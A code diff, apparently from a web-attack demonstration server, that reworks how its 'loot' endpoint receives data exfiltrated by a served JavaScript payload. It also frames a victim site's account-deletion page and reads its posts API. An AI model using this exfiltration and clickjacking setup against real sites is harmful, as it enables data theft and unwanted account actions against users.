@@ -28,7 +28,7 @@ export function lures({ targets, notebook, origin }: LuresOptions): Blueprint {
       kittens: KITTENS,
       patience: PATIENCE,
       token: c.request.query.get("token") ?? "",
-      beacon: `${origin}/loot/${attack.slug}/${target.name}/`,
+      beacon: `${origin}/loot/${attack.slug}/${target.name}?what=`,
       api: unsafeResourceUrl(`${target.origin}/api/posts?by=me`),
       // The button of that page, scrolled to the top of the frame.
       page: unsafeResourceUrl(`${target.origin}/user/delete#confirm`),
@@ -38,14 +38,14 @@ export function lures({ targets, notebook, origin }: LuresOptions): Blueprint {
   lures.get("/payload/<slug>/<any(sealed, unsealed):target>", { name: "payload" }, (c) => {
     const { attack, target } = resolveAim(c.params, targets);
     c.headers.set("access-control-allow-origin", "*");
-    return c.bytes(payload(`${origin}/loot/${attack.slug}/${target.name}/`), {
+    return c.bytes(payload(`${origin}/loot/${attack.slug}/${target.name}?what=`), {
       contentType: "text/javascript; charset=utf-8",
     });
   });
 
-  lures.get("/loot/<slug>/<any(sealed, unsealed):target>/<path:what>", { name: "loot" }, (c) => {
-    const { slug, target, what } = c.params;
-    if (!notebook.write(slug, target, what)) abort(404);
+  lures.get("/loot/<slug>/<any(sealed, unsealed):target>", { name: "loot" }, (c) => {
+    const { slug, target } = c.params;
+    if (!notebook.write(slug, target, c.request.query.get("what") ?? "")) abort(404);
     c.headers.set("access-control-allow-origin", "*");
     return c.empty();
   });
